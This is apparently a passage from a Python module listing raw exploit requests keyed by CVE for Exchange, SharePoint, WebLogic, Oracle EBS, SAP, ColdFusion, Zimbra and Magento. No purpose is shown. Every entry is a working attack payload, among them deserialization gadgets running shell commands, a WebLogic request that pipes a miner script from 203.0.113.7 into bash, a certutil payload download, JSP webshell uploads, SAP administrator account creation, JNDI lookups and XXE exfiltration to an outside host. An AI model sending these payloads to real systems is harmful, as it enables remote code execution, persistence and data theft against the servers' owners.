    ("ssrf", "CVE-2022-41080 Exchange OWASSRF owa mailbox powershell path", "raw", "",
     _raw("POST", "/owa/mastermailbox%40outlook.com/powershell",
          [_UA, "Content-Type: application/soap+xml;charset=UTF-8",
           "Authorization: Basic dXNlcjE6UGFzc3dvcmQx", "X-OWA-ExplicitLogonUser: owa/mastermailbox@outlook.com"],
          '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body/></s:Envelope>')),
    ("java", "CVE-2020-0688 Exchange ECP static machineKey ViewState deserialization", "path",
     "", "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE="
         + base64.b64encode(b"\xff\x012\x97\x05" + b'<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
                            b'xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system">'
                            b'<ObjectDataProvider x:Key="" ObjectType="{x:Type Diag:Process}" MethodName="Start">'
                            b'<ObjectDataProvider.MethodParameters><System:String>cmd</System:String><System:String>'
                            b'/c whoami > C:\\inetpub\\wwwroot\\aspnet_client\\x.txt</System:String>'
                            b'</ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>').decode()
         .replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")),
    ("java", "CVE-2025-53770 SharePoint ToolShell ToolPane ExcelDataSet gadget", "raw", "",
     _raw("POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
          [_UA, _FORM, "Referer: /_layouts/SignOut.aspx"],
          "MSOTlPn_Uri=https%3A%2F%2Ftarget.example%2F_controltemplates/15/AclEditor.ascx"
          "&MSOTlPn_DWP=%3C%25%40+Register+Tagprefix%3D%22Scorecard%22+Namespace%3D%22Microsoft.PerformancePoint."
          "Scorecards%22+Assembly%3D%22Microsoft.PerformancePoint.Scorecards.Client%2C+Version%3D16.0.0.0%2C+"
          "Culture%3Dneutral%2C+PublicKeyToken%3D71e9bce111e9429c%22+%25%3E%0A%3Casp%3AUpdateProgress+ID%3D%22"
          "UpdateProgress1%22+DisplayAfter%3D%2210%22+runat%3D%22server%22+AssociatedUpdatePanelID%3D%22upTest%22%3E"
          "%3CProgressTemplate%3E%3CScorecard%3AExcelDataSet+CompressedDataTable%3D%22"
          "H4sIAAAAAAAEAO1Y3W7bNhR%2BFcP3jiVnrtMiMeDYcWPMlVbpOkYwLjtZe9TxB%22+DataTable-CaseSensitive%3D%22false%22"
          "+runat%3D%22server%22%3E%3C%2FScorecard%3AExcelDataSet%3E%3C%2FProgressTemplate%3E%3C%2Fasp%3AUpdateProgress%3E")),
    ("generic", "CVE-2023-29357 SharePoint alg none JWT auth bypass", "raw", "",
     _raw("GET", "/_api/web/siteusers",
          [_UA, "Accept: application/json",
           "Authorization: Bearer eyJhbGciOiAibm9uZSJ9." + _b64(
               '{"aud":"00000003-0000-0ff1-ce00-000000000000@*","iss":"00000003-0000-0ff1-ce00-000000000000",'
               '"nbf":1695987703,"exp":2011547223,"ver":"hashedprooftoken","nameid":"c#.w|sp_admin",'
               '"endpointurl":"qqlAJmTxpB9A67xSyZk+tmrrNmYClY/fqig7ceZNsSM=","isloopback":true}').rstrip("=") + ".",
           "X-PROOF_TOKEN: eyJhbGciOiAibm9uZSJ9.eyJpc2xvb3BiYWNrIjp0cnVlfQ."])),
    # --- Oracle ---
    ("java", "CVE-2020-14882 WebLogic console traversal ShellSession MVEL", "raw", "",
     _raw("GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle="
                 "com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)",
          [_UA])),
    ("java", "CVE-2020-14750 WebLogic console bypass ClassPathXmlApplicationContext", "raw", "",
     _raw("POST", "/console/images/%252E%252E%252Fconsole.portal", [_UA, _FORM],
          "_nfpb=true&_pn=HomePage&handle=com.bea.core.repackaged.springframework.context.support."
          "FileSystemXmlApplicationContext(%22http://203.0.113.7/poc.xml%22)")),
    ("java", "CVE-2017-10271 WebLogic wls-wsat XMLDecoder ProcessBuilder", "raw", "",
     _raw("POST", "/wls-wsat/CoordinatorPortType", [_UA, "Content-Type: text/xml;charset=UTF-8"],
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
          '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" '
          'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
          'length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void>'
          '<void index="2"><string>curl http://203.0.113.7/xmrig.sh | bash</string></void></array>'
          '<void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')),
    ("java", "CVE-2019-2725 WebLogic _async AsyncResponseService XMLDecoder", "raw", "",
     _raw("POST", "/_async/AsyncResponseService", [_UA, "Content-Type: text/xml", "SOAPAction: "],
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
          'xmlns:wsa="http://www.w3.org/2005/08/addressing" xmlns:asy="http://www.bea.com/async/AsyncResponseService">'
          '<soapenv:Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo><work:WorkContext '
          'xmlns:work="http://bea.com/2004/06/soap/workarea/"><void class="java.lang.ProcessBuilder"><array '
          'class="java.lang.String" length="3"><void index="0"><string>cmd</string></void><void index="1">'
          '<string>/c</string></void><void index="2"><string>certutil -urlcache -split -f http://203.0.113.7/a.exe'
          '</string></void></array><void method="start"/></void></work:WorkContext></soapenv:Header>'
          '<soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>')),
    ("ssrf", "CVE-2025-61882 Oracle EBS UiServlet getUiType return_url SSRF", "raw", "",
     _raw("POST", "/OA_HTML/configurator/UiServlet", [_UA, _FORM],
          "redirectFromJsp=1&getUiType=%3C%40urlencoded%3E%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E"
          "%3Cinitialize%3E%3Cparam+name%3D%22init_was_saved%22%3Etest%3C%2Fparam%3E%3Cparam+name%3D%22return_url%22%3E"
          "http%3A%2F%2F203.0.113.7%3A7201%2Fx%3C%2Fparam%3E%3Cparam+name%3D%22ui_def_id%22%3E0%3C%2Fparam%3E"
          "%3Cparam+name%3D%22config_effective_usage_id%22%3E0%3C%2Fparam%3E%3Cparam+name%3D%22ui_type%22%3EApplet"
          "%3C%2Fparam%3E%3C%2Finitialize%3E%3C%2F%40urlencoded%3E")),
    ("java", "CVE-2018-2894 WebLogic ws_utc workDir change for JSP upload", "raw", "",
     _raw("POST", "/ws_utc/resources/setting/options/general", [_UA, _FORM],
          "setting_id=general&BasicConfigOptions.workDir=%2Fu01%2Foracle%2Fuser_projects%2Fdomains%2Fbase_domain"
          "%2Fservers%2FAdminServer%2Ftmp%2F_WL_internal%2Fcom.oracle.webservices.wls.ws-testclient-app-wls%2F4mcj4y"
          "%2Fwar%2Fcss&BasicConfigOptions.proxyHost=&BasicConfigOptions.proxyPort=80")),
    # --- SAP ---
    ("php", "CVE-2025-31324 SAP NetWeaver metadatauploader JSP upload", "raw", "",
     _raw("POST", "/developmentserver/metadatauploader?CONTENT_TYPE=IMPL&FILENAME=helper.jsp", [_UA, _MPCT],
          _mp([("file", "../../../../../../usr/sap/SID/J00/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/root/helper.jsp",
                "application/octet-stream",
                '<%@ page import="java.util.*,java.io.*"%><% Process p=Runtime.getRuntime().exec('
                'request.getParameter("cmd")); %>')]))),
    ("xxe", "CVE-2020-6287 SAP RECON CTCWebService executeSynchronious user create", "raw", "",
     _raw("POST", "/CTCWebService/CTCWebServiceBean", [_UA, "Content-Type: text/xml;charset=UTF-8"],
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
          'xmlns:urn="urn:CTCWebServiceSi"><soapenv:Header/><soapenv:Body><urn:executeSynchronious><identifier>'
          '<component>sap.com/tc~lm~config~content</component><path>content/Netweaver/ASJava/NWA/SPC/'
          'SPC_UserManagement.cproc</path></identifier><contextMessages><baData>'
          + _b64('<PCK><Usermanagement><SAP_XI_PCK_CONFIG><roleName>Administrator</roleName></SAP_XI_PCK_CONFIG>'
                 '<SAP_XI_PCK_COMMUNICATION><roleName>ProcessIntegrator</roleName></SAP_XI_PCK_COMMUNICATION>'
                 '<SAP_XI_PCK_MONITOR><roleName>ProcessIntegrator</roleName></SAP_XI_PCK_MONITOR>'
                 '<SAP_XI_PCK_ADMIN><roleName>Administrator</roleName></SAP_XI_PCK_ADMIN><PCKUser>'
                 '<userName secure="true">sapRpoc5484</userName><password secure="true">Secure!PwD3458</password>'
                 '</PCKUser><PCKReceiver><userName>sapRpoc5484</userName><password secure="true">Secure!PwD3458'
                 '</password></PCKReceiver></Usermanagement></PCK>')
          + '</baData><name>userDetails</name></contextMessages></urn:executeSynchronious></soapenv:Body>'
          '</soapenv:Envelope>')),
    ("rce", "CVE-2010-5326 SAP Invoker ConfigServlet EXECUTE_CMD", "path",
     "", "/ctc/servlet/com.sap.ctc.util.ConfigServlet?param=com.sap.ctc.util.FileSystemConfig;EXECUTE_CMD;CMDLINE=cat /etc/passwd"),
    ("ptrav", "CVE-2017-12637 SAP NetWeaver UIUtilJavaScriptJS traversal", "path",
     "", "/scheduler/ui/js/ffffffffbca41eb4/UIUtilJavaScriptJS?/.."),
    # --- Adobe ColdFusion / Zimbra / Magento ---
    ("java", "CVE-2023-29300 ColdFusion WDDX JdbcRowSetImpl JNDI", "raw", "",
     _raw("POST", "/CFIDE/wizards/common/utils.cfc?method=wizardHash&_cfclient=true", [_UA, _FORM],
          "argumentCollection=<wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'>"
          "<var name='dataSourceName'><string>ldap://203.0.113.7:1389/Exploit</string></var>"
          "<var name='autoCommit'><boolean value='true'/></var></struct></data></wddxPacket>")),
    ("ptrav", "CVE-2023-26360 ColdFusion iedit.cfc _metadata classname file read", "raw", "",
     _raw("POST", "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=wizardHash"
                  "&_cfclient=true&returnFormat=wddx", [_UA, _FORM],
          '_variables={"_metadata":{"classname":"i/../lib/password.properties"},"_variables":[]}')),
    ("ptrav", "CVE-2022-27925 Zimbra mboximport zip traversal webshell", "raw", "",
     _raw("POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1",
          [_UA, "Content-Type: application/octet-stream"],
          "PK\x03\x04\x14\x00\x00\x00\x00\x00../../../../mailboxd/webapps/zimbraAdmin/0MVzAe6pgwe5go1D.jsp"
          '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>')),
    ("xxe", "CVE-2019-9670 Zimbra Autodiscover XXE localconfig.xml", "raw", "",
     _raw("POST", "/Autodiscover/Autodiscover.xml", [_UA, "Content-Type: application/xml"],
          '<!DOCTYPE xxe [<!ELEMENT name ANY ><!ENTITY xxe SYSTEM "file:../conf/localconfig.xml" >]>'
          '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a">'
          '<Request><EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>&xxe;</AcceptableResponseSchema>'
          '</Request></Autodiscover>')),
    ("xxe", "CVE-2024-34102 Magento CosmicSting estimate-shipping XXE", "raw", "",
     _raw("POST", "/rest/V1/guest-carts/1/estimate-shipping-methods", [_UA, _JSON],
          '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":'
          '"<?xml version=\\"1.0\\" ?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY % sp SYSTEM '
          '\\"http://203.0.113.7/dtd.xml\\"> %sp; %param1; ]><r>&exfil;</r>","options":16}}}}}}')),
]
